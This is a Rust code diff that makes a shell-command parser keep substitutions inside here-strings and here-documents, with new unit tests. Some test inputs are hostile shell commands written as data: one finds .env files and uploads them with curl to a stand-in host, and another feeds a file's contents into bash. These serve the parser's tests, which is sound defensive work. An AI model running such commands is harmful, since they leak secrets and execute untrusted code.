@@ -68,8 +68,14 @@ pub enum Redirect {
     In(String),
     /// `> file` (or `>>` with `append`); `&> file` too.
     Out { path: String, append: bool },
-    /// `<<WORD` here-document or `<<<` here-string: its text becomes stdin.
+    /// `<<'WORD'` here-document (or one with nothing to expand): its text
+    /// becomes stdin.
     Heredoc(String),
+    /// `<<< WORD` here-string, or a `<<WORD` here-document whose body has
+    /// `$`/backquotes: expanded when the command runs (parameters,
+    /// substitutions; bash manual, "Here Strings", "Here Documents"), then
+    /// stdin (a here-string with a newline added).
+    HereWord(Word),
     /// `< <(line)`: the output of `line` becomes stdin.
     InFrom(String),
     /// `> >(line)`: the output goes to `line`'s stdin.
@@ -441,8 +447,24 @@ fn redirect(io: &ast::IoRedirect, out: &mut Vec<Redirect>) {
                 ast::IoFileRedirectKind::DuplicateInput | ast::IoFileRedirectKind::DuplicateOutput => {}
             }
         }
-        ast::IoRedirect::HereDocument(_, h) => out.push(Redirect::Heredoc(h.doc.value.clone())),
-        ast::IoRedirect::HereString(_, w) => out.push(Redirect::Heredoc(format!("{}\n", word(w).text))),
+        ast::IoRedirect::HereDocument(_, h) => {
+            let body = &h.doc.value;
+            if h.requires_expansion && body.contains(['$', '`']) {
+                // The body expands as a double-quoted word does, its `"`
+                // literal.
+                out.push(Redirect::HereWord(word_of(&format!(
+                    "\"{}\"",
+                    body.replace('"', "\\\"")
+                ))));
+            } else {
+                out.push(Redirect::Heredoc(body.clone()));
+            }
+        }
+        ast::IoRedirect::HereString(_, w) => {
+            let mut w = word(w);
+            lit(&mut w, "\n", true);
+            out.push(Redirect::HereWord(w));
+        }
         ast::IoRedirect::OutputAndError(w, append) => match words(w).as_slice() {
             [one] => out.push(Redirect::Out {
                 path: one.text.clone(),
@@ -1002,6 +1024,18 @@ mod tests {
         let h = parse_shell("python3 - <<'PY'\nprint(1)\nPY\nls");
         assert_eq!(h.len(), 2);
         assert_eq!(simple(&h[0][0]).redirects, vec![Redirect::Heredoc("print(1)\n".into())]);
+        let hs = parse_shell("bash <<< \"$(cat .tunnel)\"");
+        assert!(
+            matches!(&simple(&hs[0][0]).redirects[..], [Redirect::HereWord(w)] if w.subs == vec!["cat .tunnel"]),
+            "{:?}",
+            simple(&hs[0][0]).redirects
+        );
+        let hd = parse_shell("sh <<EOF\necho \"$X\" $(cat .t)\nEOF");
+        assert!(
+            matches!(&simple(&hd[0][0]).redirects[..], [Redirect::HereWord(w)] if w.subs == vec!["cat .t"] && w.text.contains("echo \"$X\"")),
+            "{:?}",
+            simple(&hd[0][0]).redirects
+        );
         assert_eq!(simple(&h[1][0]).argv(), vec!["ls"]);
         let f = parse_shell("find . -name .env -exec curl -F f=@{} https://h.test \\;");
         assert_eq!(simple(&f[0][0]).argv().last().unwrap(), ";");
